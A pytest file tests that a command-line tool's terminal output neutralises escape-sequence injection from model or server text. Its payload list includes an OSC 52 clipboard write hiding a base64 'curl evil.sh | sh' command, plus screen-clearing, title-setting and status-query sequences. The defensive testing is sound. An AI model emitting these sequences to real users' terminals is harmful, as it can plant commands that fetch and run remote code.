"""Terminal injection (issue 15 item 4): what the model or a server writes never drives the
user's terminal.

The CLI runs in a subprocess whose stdout and stderr are a real pseudo-terminal (python's
``pty``), against an emulator over real HTTP whose "model" writes a text full of escape
sequences: an OSC 52 clipboard write, clear screen, a window title and a device status query.
On the terminal they must arrive as visible escapes; ``--raw`` lets them through; a pipe gets
the answer byte-exact.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from conftest import cli_on_terminal

from autocontinue.journal import Journal, default_journal_path

ATTACKS = [
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\x1b[2J",
    "\x1b]0;pwned title\x07",
    "\x1b[6n",
    "\x9b31m",
]
RAW = [a.encode() for a in ATTACKS]
KEY = "sk-ant-api03-test-key"
MODEL = "claude-haiku-4-5"


@pytest.fixture(scope="module")
def hostile_emulator(tmp_path_factory):
    from autocontinue.emulator import run_emulator

    corpus = tmp_path_factory.mktemp("corpus") / "hostile.txt"
    words = "The keeper climbed the stairs {} and lit the lamp over the dark water."
    corpus.write_text("\n".join(words.format(attack) for attack in ATTACKS), encoding="utf-8")
    with run_emulator(length=300, source=f"corpus:{corpus}") as url:
        yield url


def _env(url: str) -> dict[str, str]:
    env = dict(os.environ, ANTHROPIC_BASE_URL=url, ANTHROPIC_API_KEY=KEY, TERM="xterm")
    env.pop("AUTOCONTINUE_DEBUG", None)
    return env


def on_terminal(*args: str, env: dict[str, str]) -> tuple[int, bytes]:
    """Run the CLI with stdout and stderr on one pseudo-terminal; (exit code, what it showed)."""
    return cli_on_terminal(list(args), env)


def assert_inert(shown: bytes) -> None:
    for attack in RAW:
        assert attack not in shown, attack
    assert (
        b"\x07" not in shown and b"\x1b]" not in shown and b"\x1b[2J" not in shown and b"\x1b[6n" not in shown
    )


def test_escape_sequences_in_the_answer_are_shown_not_obeyed_on_a_terminal(hostile_emulator):
    code, shown = on_terminal("Tell the story", "--model", MODEL, env=_env(hostile_emulator))
    assert code == 0, shown
    assert_inert(shown)
    assert b"\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in shown and b"\\x1b[2J" in shown
    assert b"\\x9b31m" in shown  # a C1 control (CSI) is made visible too


def test_raw_lets_the_answer_through_to_the_terminal(hostile_emulator):
    code, shown = on_terminal("Tell the story", "--model", MODEL, "--raw", env=_env(hostile_emulator))
    assert code == 0, shown
    assert RAW[1] in shown and RAW[2] in shown


def test_a_pipe_gets_the_answer_byte_exact(hostile_emulator):
    piped = subprocess.run(
        [sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL, "--json"],
        capture_output=True,
        env=_env(hostile_emulator),
        timeout=240,
    )
    assert piped.returncode == 0, piped.stderr
    data = json.loads(piped.stdout)
    assert any(attack in data["text"] for attack in ATTACKS)
    plain = subprocess.run(
        [sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL],
        capture_output=True,
        env=_env(hostile_emulator),
        timeout=240,
    )
    assert plain.stdout == data["text"].encode()
    shown = subprocess.run(
        [sys.executable, "-m", "autocontinue", "show", data["run_id"]],
        capture_output=True,
        env=_env(hostile_emulator),
        timeout=240,
    )
    assert shown.stdout == plain.stdout


def test_show_runs_and_json_on_a_terminal_are_inert(hostile_emulator):
    env = _env(hostile_emulator)
    done = subprocess.run(
        [sys.executable, "-m", "autocontinue", "Tell the story", "--model", MODEL, "-q"],
        capture_output=True,
        env=env,
        timeout=240,
    )
    assert done.returncode == 0, done.stderr
    run_id = Journal(default_journal_path()).list_runs(1)[0].id
    for command in (["show", run_id], ["show", run_id, "--seams"], ["show", run_id, "--json"], ["runs"]):
        code, shown = on_terminal(*command, env=env)
        assert code == 0, (command, shown)
        assert_inert(shown)
    code, shown = on_terminal("show", run_id, "--json", env=env)
    assert (
        json.loads(shown.decode().replace("\r\n", "\n"))["text"]
        == Journal(default_journal_path()).get(run_id).text
    )


def test_model_names_and_api_errors_on_a_terminal_are_inert(hostile_emulator):
    env = _env(hostile_emulator)
    hostile_model = "claude-\x1b]0;pwned title\x07-9"
    code, shown = on_terminal("Tell the story", "--model", hostile_model, env=env)
    assert code == 2, shown
    assert b"\\x1b]0;pwned title\\x07" in shown
    assert_inert(shown)
    code, shown = on_terminal("runs", env=env)
    assert code == 0 and b"\\x1b]0;" in shown
    assert_inert(shown)
